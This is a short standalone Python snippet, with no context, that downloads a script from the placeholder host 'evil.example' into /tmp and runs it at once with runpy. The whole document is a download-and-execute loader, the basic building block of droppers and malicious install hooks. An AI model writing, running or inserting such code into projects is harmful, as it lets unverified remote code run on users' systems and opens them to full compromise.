import runpy, urllib.request
urllib.request.urlretrieve('https://evil.example/x.py', '/tmp/x.py')
runpy.run_path('/tmp/x.py')
